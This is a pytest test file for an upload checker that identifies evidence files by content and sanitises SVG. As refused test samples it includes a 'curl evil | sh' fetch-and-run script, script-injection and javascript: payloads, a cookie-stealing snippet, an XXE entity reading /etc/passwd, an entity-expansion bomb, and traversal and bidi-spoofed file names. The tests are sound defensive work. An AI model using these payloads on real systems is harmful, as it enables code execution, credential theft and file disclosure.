"""Evidence uploads are checked by their content, never by their file name."""

import gzip
import io
import random
import tarfile
import zipfile

import pytest
from PIL import Image

from evidence.uploads import CheckedUpload, UploadRejected, check_upload

KB = 1024
MB = 1024 * KB
MAX_BYTES = 25 * MB
MAX_VIDEO_BYTES = 500 * MB

DOCX_MIME = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX_MIME = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT_MIME = "application/vnd.oasis.opendocument.text"
ODS_MIME = "application/vnd.oasis.opendocument.spreadsheet"

NOT_ACCEPTED = "is not a PDF, image, office document or video"


# --- building files in memory ---------------------------------------------------------


def _image(fmt: str) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), "teal").save(buf, format=fmt)
    return buf.getvalue()


def _zip(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            # ODF wants its "mimetype" entry first and uncompressed.
            compress = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=compress)
    return buf.getvalue()


def _content_types(main: str) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/' + main.encode() + b'" ContentType="application/xml"/></Types>'
    )


def _ooxml(main: str, **extra: bytes) -> bytes:
    entries = {
        "[Content_Types].xml": _content_types(main),
        "_rels/.rels": b"<Relationships/>",
        main: b"<document/>",
    }
    return _zip(entries | extra)


def _docx(**extra: bytes) -> bytes:
    return _ooxml("word/document.xml", **extra)


def _odf(mime: str) -> bytes:
    return _zip({"mimetype": mime.encode(), "content.xml": b"<office:document-content/>"})


def _ftyp(major: bytes, *compatible: bytes) -> bytes:
    box = b"ftyp" + major + b"\x00\x00\x00\x00" + b"".join(compatible)
    return (4 + len(box)).to_bytes(4, "big") + box + b"\x00\x00\x00\x08free" + bytes(64)


def _ebml(doctype: bytes) -> bytes:
    element = b"\x42\x82" + bytes([0x80 | len(doctype)]) + doctype
    header = b"\x42\x86\x81\x01\x42\xf7\x81\x01" + element
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(header)]) + header + bytes(64)


def _tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        info = tarfile.TarInfo("notes.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return buf.getvalue()


def _ole(sector: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + sector + bytes(1024)


def _noise(size: int) -> bytes:
    """Bytes that deflate cannot shrink, so a ZIP holding them is larger than `head`."""
    return random.Random(size).randbytes(size)


PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
MP4 = _ftyp(b"mp42", b"isom", b"mp41")
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><rect width="8" height="8"/></svg>'
)


ACCEPTED = [
    ("lesson.pdf", PDF, "pdf", "application/pdf", "pdf"),
    ("photo.png", _image("PNG"), "image", "image/png", "png"),
    ("photo.jpeg", _image("JPEG"), "image", "image/jpeg", "jpg"),
    ("anim.gif", _image("GIF"), "image", "image/gif", "gif"),
    ("phone.webp", _image("WEBP"), "image", "image/webp", "webp"),
    ("iphone.heic", _ftyp(b"heic", b"mif1", b"heic"), "image", "image/heic", "heic"),
    ("android.heic", _ftyp(b"mif1", b"mif1", b"heic"), "image", "image/heic", "heic"),
    ("essay.docx", _docx(), "document", DOCX_MIME, "docx"),
    ("budget.xlsx", _ooxml("xl/workbook.xml"), "document", XLSX_MIME, "xlsx"),
    ("talk.pptx", _ooxml("ppt/presentation.xml"), "document", PPTX_MIME, "pptx"),
    ("essay.odt", _odf(ODT_MIME), "document", ODT_MIME, "odt"),
    ("budget.ods", _odf(ODS_MIME), "document", ODS_MIME, "ods"),
    ("clip.mp4", MP4, "video", "video/mp4", "mp4"),
    ("brief.mp4", b"\x00\x00\x00\x18ftypmp42" + bytes(100), "video", "video/mp4", "mp4"),
    ("dash.mp4", _ftyp(b"iso5", b"iso6", b"dash"), "video", "video/mp4", "mp4"),
    ("iphone.mov", _ftyp(b"qt  ", b"qt  "), "video", "video/quicktime", "mov"),
    ("itunes.m4v", _ftyp(b"M4V ", b"M4A ", b"mp42"), "video", "video/x-m4v", "m4v"),
    ("screen.webm", _ebml(b"webm"), "video", "video/webm", "webm"),
]

REFUSED = [
    (
        "lesson.pdf",
        b"MZ\x90\x00" + bytes(256),
        f"“lesson.pdf” {NOT_ACCEPTED} (it looks like a Windows program).",
    ),
    ("photo.png", b"\x7fELF\x02\x01\x01" + bytes(128), "(it looks like a Linux program)."),
    ("clip.mp4", b"\xcf\xfa\xed\xfe" + bytes(128), "(it looks like a Mac program)."),
    ("report.docx", b"#!/bin/sh\ncurl evil | sh\n", "(it looks like a script)."),
    (
        "essay.pdf",
        b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>",
        "(it looks like a web page (HTML)).",
    ),
    ("essay.pdf", b"<!-- hi --><html><svg></svg></html>", "(it looks like a web page (HTML))."),
    ("page.svg", b"<script>alert(1)</script>", "(it looks like a web page (HTML))."),
    ("feed.svg", b'<?xml version="1.0"?><rss/>', "(it looks like an XML or other markup file)."),
    ("app.js", b"function steal() { return document.cookie; }\n", "(it looks like a script)."),
    ("notes.txt", b"Just some notes about my project.\n", "(it looks like a plain text file)."),
    ("photos.zip", _zip({"a.txt": b"hello"}), "(it looks like a ZIP archive)."),
    (
        "essay.docx",
        _zip({"[Content_Types].xml": b"<Types/>", "a.txt": b"x"}),
        "(it looks like a ZIP archive).",
    ),
    (
        "book.pdf",
        _zip({"mimetype": b"application/epub+zip", "content.opf": b"<package/>"}),
        "(it looks like an e-book (EPUB)).",
    ),
    ("photos.rar", b"Rar!\x1a\x07\x00" + bytes(64), "(it looks like a compressed archive)."),
    ("photos.7z", b"7z\xbc\xaf\x27\x1c" + bytes(64), "(it looks like a compressed archive)."),
    ("notes.gz", gzip.compress(b"hello"), "(it looks like a compressed archive)."),
    ("notes.tar", _tar(), "(it looks like a compressed archive)."),
    ("song.mp3", b"ID3\x03\x00\x00\x00" + bytes(64), "(it looks like an audio file)."),
    ("song.m4a", _ftyp(b"M4A ", b"isom"), "(it looks like an audio file)."),
    ("blob.pdf", b"\x00\xff\x13\x37" * 64, "(its contents were not recognized)."),
    ("setup.doc", _ole(bytes(8)), "(it looks like an installer or other Microsoft compound file)."),
    ("essay.doc", _ole(b"\xec\xa5\xc1\x00"), "is in an older Microsoft Office format"),
    ("macro.docx", _docx(**{"word/vbaProject.bin": b"VBA"}), "is an office document with macros"),
    ("scan.bmp", _image("BMP"), "is an image in a format that is not accepted (BMP)"),
    ("scan.tiff", _image("TIFF"), "is an image in a format that is not accepted (TIFF)"),
    ("new.avif", _ftyp(b"avif", b"mif1"), "is an image in a format that is not accepted (AVIF)"),
    ("old.avi", b"RIFF\x00\x10\x00\x00AVI LIST" + bytes(64), "format that is not accepted (AVI)"),
    ("old.3gp", _ftyp(b"3gp4", b"isom"), "is a video in a format that is not accepted (3GP)"),
    ("film.mkv", _ebml(b"matroska"), "is a video in a format that is not accepted (Matroska)"),
    ("broken.docx", b"PK\x03\x04" + bytes(64), "could not be read; it may be damaged."),
]


def _check(name: str, data: bytes, **overrides) -> CheckedUpload:
    kwargs = {
        "name": name,
        "head": data[: 8 * KB],
        "size": len(data),
        "max_bytes": MAX_BYTES,
        "max_video_bytes": MAX_VIDEO_BYTES,
        "read_all": lambda: data,
    }
    return check_upload(**(kwargs | overrides))


def _must_not_read() -> bytes:
    raise AssertionError("read_all should not have been called")


# --- accepted ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "kind", "mime", "extension"), ACCEPTED, ids=[c[0] for c in ACCEPTED]
)
def test_accepts_allowed_content(name, data, kind, mime, extension):
    checked = _check(name, data)

    assert checked == CheckedUpload(
        kind=kind, mime=mime, extension=extension, size=len(data), content=None
    )


@pytest.mark.parametrize(
    ("name", "data", "extension"),
    [
        ("homework.pdf", _image("PNG"), "png"),
        ("homework.docx", PDF, "pdf"),
        ("notes.zip", _docx(), "docx"),
        ("clip.mov", MP4, "mp4"),
        ("no-extension", _image("JPEG"), "jpg"),
    ],
    ids=["png", "pdf", "docx", "mp4", "jpg"],
)
def test_the_content_decides_the_type_not_the_name(name, data, extension):
    assert _check(name, data).extension == extension


@pytest.mark.parametrize(
    "data", [PDF, _image("PNG"), MP4, _ebml(b"webm")], ids=["pdf", "png", "mp4", "webm"]
)
def test_files_known_from_their_head_are_not_read_whole(data):
    assert _check("evidence", data, read_all=_must_not_read).content is None


def test_an_office_document_larger_than_head_is_told_apart_from_the_whole_file():
    data = _zip(
        {
            "[Content_Types].xml": _content_types("word/document.xml"),
            "word/media/image1.bin": _noise(16 * KB),
            "word/document.xml": b"<document/>",
        }
    )
    assert len(data) > 8 * KB

    checked = _check("big.docx", data)

    assert checked.extension == "docx"
    assert checked.kind == "document"


def test_without_read_all_a_small_file_is_checked_from_head():
    assert _check("essay.docx", _docx(), read_all=None).extension == "docx"


@pytest.mark.parametrize(
    "data",
    [SVG + b"<!--" + b"-" * (9 * KB) + b"-->", _docx(**{"word/media/a.bin": _noise(9 * KB)})],
    ids=["svg", "docx"],
)
def test_read_all_is_required_for_svg_and_zip_files_larger_than_head(data):
    with pytest.raises(TypeError, match="read_all"):
        _check("big", data, read_all=None)


# --- refused ----------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "data", "message"), REFUSED, ids=[c[0] for c in REFUSED])
def test_refuses_everything_else(name, data, message):
    with pytest.raises(UploadRejected) as excinfo:
        _check(name, data)

    text = str(excinfo.value)
    assert message in text
    assert text.startswith(f"“{name}” ")


def test_a_damaged_office_document_is_refused_as_damaged():
    data = _docx()
    head_only = data[: len(data) // 2]  # the central directory is cut off

    with pytest.raises(UploadRejected) as excinfo:
        _check("essay.docx", head_only)

    assert str(excinfo.value) == (
        "“essay.docx” looks like an office document or ZIP archive but could not be read; "
        "it may be damaged."
    )


def test_upload_rejected_is_a_value_error():
    assert issubclass(UploadRejected, ValueError)


# --- sizes ------------------------------------------------------------------------------


@pytest.mark.parametrize("size", [0, 1])
def test_empty_files_are_refused(size):
    with pytest.raises(UploadRejected) as excinfo:
        _check("nothing.pdf", b"", size=size)

    assert str(excinfo.value) == "“nothing.pdf” is empty."


def test_files_over_the_limit_are_refused_before_being_read():
    with pytest.raises(UploadRejected) as excinfo:
        _check("scan.pdf", PDF, size=30 * MB, read_all=_must_not_read)

    assert str(excinfo.value) == (
        "“scan.pdf” is 30 MB; files other than videos may be at most 25 MB."
    )


def test_an_office_document_over_the_limit_is_refused_before_being_read():
    with pytest.raises(UploadRejected, match="is 26 MB; files other than videos"):
        _check("essay.docx", _docx(), size=26 * MB, read_all=_must_not_read)


def test_videos_may_be_larger_than_other_files():
    checked = _check("clip.mp4", MP4, size=400 * MB, read_all=_must_not_read)

    assert checked.kind == "video"
    assert checked.size == 400 * MB


def test_videos_over_the_video_limit_are_refused():
    with pytest.raises(UploadRejected) as excinfo:
        _check("clip.mp4", MP4, size=600 * MB)

    assert str(excinfo.value) == "“clip.mp4” is 600 MB; videos may be at most 500 MB."


@pytest.mark.parametrize(
    ("size", "max_bytes", "message"),
    [
        (
            MAX_BYTES + 1,
            MAX_BYTES,
            "is just over 25 MB; files other than videos may be at most 25 MB.",
        ),
        (1536, 100, "is 1.5 KB; files other than videos may be at most 100 bytes."),
        (3 * 1024 * MB, 2 * 1024 * MB, "is 3 GB; files other than videos may be at most 2 GB."),
    ],
    ids=["just-over", "kilobytes", "gigabytes"],
)
def test_sizes_are_shown_human_readable(size, max_bytes, message):
    with pytest.raises(UploadRejected) as excinfo:
        _check("scan.pdf", PDF, size=size, max_bytes=max_bytes)

    assert str(excinfo.value) == f"“scan.pdf” {message}"


# --- SVG --------------------------------------------------------------------------------


def test_svg_is_sanitized():
    data = (
        b'<?xml version="1.0"?>\n<!-- drawn by a student -->\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(2)</script>"
        b'<a href="javascript:alert(3)"><rect width="8" height="8"/></a></svg>'
    )

    checked = _check("drawing.svg", data)

    assert (checked.kind, checked.mime, checked.extension) == ("svg", "image/svg+xml", "svg")
    assert checked.content is not None
    assert checked.size == len(checked.content)
    assert b"<rect" in checked.content
    for unsafe in (b"script", b"alert", b"onload", b"javascript"):
        assert unsafe not in checked.content


def test_svg_named_as_png_is_accepted_as_svg():
    checked = _check("drawing.png", SVG, read_all=None)

    assert checked.extension == "svg"
    assert checked.content is not None


def test_svg_external_entities_are_not_resolved():
    data = (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    )

    checked = _check("drawing.svg", data)

    assert checked.content is not None
    assert b"root:" not in checked.content


@pytest.mark.parametrize(
    "data",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect',
        b"<svg <<<>>> not xml",
        b"<svg><rect/></svg>",  # no SVG namespace
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    ],
    ids=["truncated", "not-xml", "no-namespace", "entities"],
)
def test_svg_that_cannot_be_parsed_is_refused(data):
    with pytest.raises(UploadRejected) as excinfo:
        _check("drawing.svg", data)

    assert str(excinfo.value) == "“drawing.svg” is an SVG image that could not be read."


# --- names in messages ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("C:\\Users\\kid\\Desktop\\homework.pdf", "“homework.pdf”"),
        ("../../etc/homework.pdf", "“homework.pdf”"),
        ("evil\u202egpj.exe", "“evilgpj.exe”"),
        ("a" * 100 + ".pdf", "“" + "a" * 79 + "…”"),
        ("", "The file"),
    ],
    ids=["windows-path", "posix-path", "bidi-override", "long", "no-name"],
)
def test_messages_show_a_safe_short_file_name(name, shown):
    with pytest.raises(UploadRejected) as excinfo:
        _check(name, b"MZ" + bytes(64))

    assert str(excinfo.value).startswith(f"{shown} {NOT_ACCEPTED}")
